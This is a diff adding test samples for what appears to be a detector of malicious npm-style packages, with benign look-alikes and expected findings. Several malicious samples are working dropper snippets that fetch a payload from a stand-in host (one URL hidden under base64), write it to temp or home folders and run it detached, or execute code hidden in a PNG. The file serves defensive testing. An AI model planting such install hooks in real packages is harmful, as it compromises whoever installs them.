@@ -1,0 +1,77 @@
+import type { Samples } from '../contract.ts';
+import { at, hide, imported, installed, quiet } from '../samples-kit.ts';
+
+const HEAD =
+  "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'), cp = require('child_process');\n";
+
+export const samples: Samples = {
+  malicious: [
+    {
+      name: 'stored in the temporary folder and started there',
+      files: installed(
+        `${HEAD}const file = path.join(os.tmpdir(), 'update.exe');\nhttps.get('https://dl.weir.test/a', (res) => {\n  res.pipe(fs.createWriteStream(file)).on('finish', () => cp.exec(file));\n});\n`,
+      ),
+      expected: [at('download-and-run', 'critical', 'setup.js', 4)],
+    },
+    {
+      name: 'a script in the home folder that outlives its parent',
+      files: imported(
+        `${HEAD}(async () => {\n  const text = await (await fetch('https://dl.weir.test/a')).text();\n  const file = path.join(os.homedir(), '.x', 'a.js');\n  fs.writeFileSync(file, text);\n  cp.spawn(process.execPath, [file], { detached: true, stdio: 'ignore' }).unref();\n})();\n`,
+      ),
+      expected: [at('download-and-run', 'high', 'index.js', 5)],
+    },
+    {
+      name: 'from a bare address under base64',
+      files: installed(
+        `${HEAD}const url = Buffer.from('${hide('http://192.0.2.9/x')}', 'base64').toString();\nfetch(url).then((r) => r.arrayBuffer()).then((b) => {\n  fs.writeFileSync('/tmp/.d', Buffer.from(b), { mode: 0o755 });\n  cp.spawn('/tmp/.d', [], { detached: true });\n});\n`,
+      ),
+      expected: [at('download-and-run', 'critical', 'setup.js', 4)],
+    },
+    {
+      name: 'another runtime',
+      files: installed(
+        `${HEAD}const where = 'https://weir.test/oven-sh/bun/releases/latest';\ncp.execSync('unzip ' + where);\ncp.spawn('./bun', ['run', 'work.js'], { detached: true });\n`,
+      ),
+      expected: [at('foreign-runtime', 'critical', 'setup.js', 2)],
+    },
+    {
+      name: 'code in a picture',
+      files: imported(
+        `const fs = require('fs');\nconst raw = fs.readFileSync(__dirname + '/logo.png');\nnew Function(raw.subarray(16).toString('utf8'))();\n`,
+        { 'logo.png': '\x89PNG' },
+      ),
+      expected: [at('code-from-data', 'high', 'index.js', 3)],
+    },
+    {
+      name: 'a picture that is code',
+      files: imported(`require('./assets/logo.png');\n`, { 'assets/logo.png': 'console.log(1);\n' }),
+      expected: [at('code-from-data', 'high', 'index.js', 1)],
+    },
+  ],
+  benign: [
+    quiet(
+      'a binary for this platform, into its own folder',
+      installed(
+        `${HEAD}const file = path.join(__dirname, 'bin', 'tool');\nhttps.get('https://dl.weir.test/tool', (res) => {\n  res.pipe(fs.createWriteStream(file)).on('finish', () => { fs.chmodSync(file, 0o755); cp.execFileSync(file, ['--version']); });\n});\n`,
+      ),
+    ),
+    quiet(
+      'an archive by way of the temporary folder',
+      installed(
+        `${HEAD}const file = path.join(os.tmpdir(), 'tool.tgz');\nhttps.get('https://dl.weir.test/tool', (res) => {\n  res.pipe(fs.createWriteStream(file)).on('finish', () => cp.execFileSync('tar', ['xzf', 'tool.tgz']));\n});\n`,
+      ),
+    ),
+    quiet(
+      'a template read and compiled',
+      imported(
+        `const fs = require('fs');\nexports.render = (name) => new Function('data', fs.readFileSync(__dirname + '/' + name + '.js', 'utf8'));\n`,
+      ),
+    ),
+    quiet(
+      'a picture that is a picture',
+      imported(`module.exports = require('fs').readFileSync(__dirname + '/logo.png');\n`, {
+        'logo.png': '\x89PNG',
+      }),
+    ),
+  ],
+};
